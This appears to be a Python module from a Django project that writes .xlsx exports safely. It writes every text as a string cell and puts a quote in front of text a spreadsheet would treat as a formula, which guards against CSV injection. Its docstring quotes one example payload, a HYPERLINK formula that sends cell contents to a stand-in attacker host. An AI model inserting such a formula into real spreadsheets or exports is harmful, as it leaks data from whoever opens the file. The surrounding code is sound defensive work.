"""The one way this project writes .xlsx files.

xlsxwriter's `write()` turns a string that starts with "=" into a live formula, so a name typed as
`=HYPERLINK("http://evil.example/?x="&A1,"点击")` would reach the reader of an export as a link that leaks the
sheet. Here every text is written with `write_string` (a text cell, never a formula), and text that a
spreadsheet would treat as a formula once someone edits the cell or saves the sheet as CSV — a leading
= + - @ tab or carriage return — gets a single quote in front (OWASP, "CSV injection"). Numbers, booleans
and dates keep their types.

The importer undoes the quote (transfer/validation.py `_text`): a leading ' followed by one of those
characters is dropped once, so that an export can be imported again unchanged.
"""

from __future__ import annotations

import datetime
import io
from collections.abc import Iterable, Sequence
from decimal import Decimal
from typing import Any

import xlsxwriter
from django.utils import timezone
from xlsxwriter.format import Format
from xlsxwriter.worksheet import Worksheet

FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"


def neutralised(text: str) -> str:
    """The text as it may sit in a cell: a quote in front when a spreadsheet would read it as a formula."""
    return QUOTE + text if text.startswith(FORMULA_LEADS) else text


def unquoted(text: str) -> str:
    """What `neutralised` added, taken off again (the importer's side)."""
    if text.startswith(QUOTE) and text[1:].startswith(FORMULA_LEADS):
        return text[1:]
    return text


class Sheet:
    """A worksheet that can only write typed values; there is no way to write a formula through it."""

    def __init__(self, worksheet: Worksheet, date_format: Format) -> None:
        self._sheet = worksheet
        self._date_format = date_format

    def cell(self, row: int, column: int, value: Any, cell_format: Format | None = None) -> None:
        sheet = self._sheet
        if value is None or value == "":
            sheet.write_blank(row, column, None, cell_format)
        elif isinstance(value, bool):
            sheet.write_boolean(row, column, value, cell_format)
        elif isinstance(value, int | float | Decimal):
            sheet.write_number(
                row, column, float(value) if isinstance(value, Decimal) else value, cell_format
            )
        elif isinstance(value, datetime.datetime):
            # Excel has no time zones: an aware time is written as Beijing time (TIME_ZONE), never as UTC.
            local = timezone.localtime(value) if timezone.is_aware(value) else value
            sheet.write_datetime(row, column, local.replace(tzinfo=None), cell_format or self._date_format)
        elif isinstance(value, datetime.date):
            moment = datetime.datetime.combine(value, datetime.time())
            sheet.write_datetime(row, column, moment, cell_format or self._date_format)
        else:
            sheet.write_string(row, column, neutralised(str(value)), cell_format)

    def row(
        self, row: int, first_column: int, values: Iterable[Any], cell_format: Format | None = None
    ) -> None:
        for offset, value in enumerate(values):
            self.cell(row, first_column + offset, value, cell_format)

    def set_column(self, first: int, last: int, width: float) -> None:
        self._sheet.set_column(first, last, width)

    def freeze_panes(self, row: int, column: int) -> None:
        self._sheet.freeze_panes(row, column)


class Workbook:
    """An in-memory workbook: `add_sheet`, write, then `finish()` for the bytes."""

    def __init__(self, *, constant_memory: bool = False) -> None:
        self._buffer = io.BytesIO()
        self._book = xlsxwriter.Workbook(
            self._buffer,
            {
                "in_memory": True,
                "constant_memory": constant_memory,
                # belt and braces: even a stray write() elsewhere keeps strings as strings
                "strings_to_formulas": False,
                "strings_to_urls": False,
                "strings_to_numbers": False,
            },
        )
        self._date_format = self._book.add_format({"num_format": "yyyy-mm-dd"})
        self.bold = self._book.add_format({"bold": True})

    def add_format(self, properties: dict[str, Any]) -> Format:
        return self._book.add_format(properties)

    def add_sheet(self, name: str) -> Sheet:
        return Sheet(self._book.add_worksheet(name), self._date_format)

    def finish(self) -> bytes:
        self._book.close()
        return self._buffer.getvalue()


def single_sheet(name: str, header: Sequence[str], rows: Iterable[Sequence[Any]]) -> bytes:
    """A workbook of one sheet: a bold header row, then the rows."""
    book = Workbook()
    sheet = book.add_sheet(name)
    sheet.row(0, 0, header, book.bold)
    for index, values in enumerate(rows, start=1):
        sheet.row(index, 0, values)
    return book.finish()
